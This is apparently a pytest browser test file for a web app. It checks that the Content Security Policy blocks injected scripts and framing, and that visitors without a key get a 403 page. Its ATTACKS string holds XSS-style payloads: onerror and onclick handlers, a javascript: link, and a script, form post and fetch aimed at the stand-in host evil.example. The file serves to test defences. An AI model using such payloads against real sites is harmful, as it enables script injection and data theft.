"""What a real browser makes of the server's rules: scripts that are not the page's do not run."""

import re

import pytest

from tests.browser.window import expect

pytestmark = pytest.mark.slow

ATTACKS = """() => {
    const place = document.body.appendChild(document.createElement('div'));
    place.innerHTML = '<img src="media/none" onerror="window.ran = 1">'
        + '<button onclick="window.ran = 2">x</button><a href="javascript:window.ran = 3">y</a>';
    const inline = document.createElement('script');
    inline.textContent = 'window.ran = 4';
    document.head.append(inline);
    const foreign = document.createElement('script');
    foreign.src = 'https://evil.example/x.js';
    document.head.append(foreign);
    place.querySelector('button').click();
    place.querySelector('a').click();
    const form = place.appendChild(document.createElement('form'));
    form.action = 'https://evil.example/';
    form.method = 'post';
    form.submit();
    place.remove();
    return fetch('https://evil.example/').then(() => 'sent', () => 'blocked');
}"""


def test_what_gets_into_the_page_does_not_run(window):
    person = window()
    person.page.evaluate(
        "window.refused = [];"
        "addEventListener('securitypolicyviolation', e => refused.push(e.effectiveDirective))"
    )
    person.forgive("Content Security Policy", "evil.example", "404")
    assert person.page.evaluate(ATTACKS) == "blocked"
    person.until(
        """() => ['script-src-attr', 'script-src-elem', 'connect-src', 'form-action']
            .every((rule) => refused.includes(rule))"""
    )
    assert person.page.evaluate("window.ran") is None


def test_another_site_cannot_frame_the_page(window):
    person = window()
    person.forgive("frame", "Refused", "Content Security Policy", "X-Frame-Options")
    framed = person.page.evaluate(
        """() => new Promise(done => {
            const frame = document.createElement('iframe');
            frame.onload = () => {
                try { done(frame.contentDocument && frame.contentDocument.title); }
                catch { done('blocked'); }
            };
            frame.src = '/';
            document.body.append(frame);
        })"""
    )
    assert framed != "Storyreel"


def test_without_the_key_a_person_reads_what_to_do(chromium, server):
    context = chromium.new_context()
    try:
        page = context.new_page()
        answer = page.goto(f"{server.origin}/")
        assert answer.status == 403
        expect(page.locator("main")).to_contain_text("the terminal showed")
        page.goto(server.address)
        expect(page).not_to_have_url(re.compile("token"))
        assert page.evaluate("document.cookie") == ""
    finally:
        context.close()
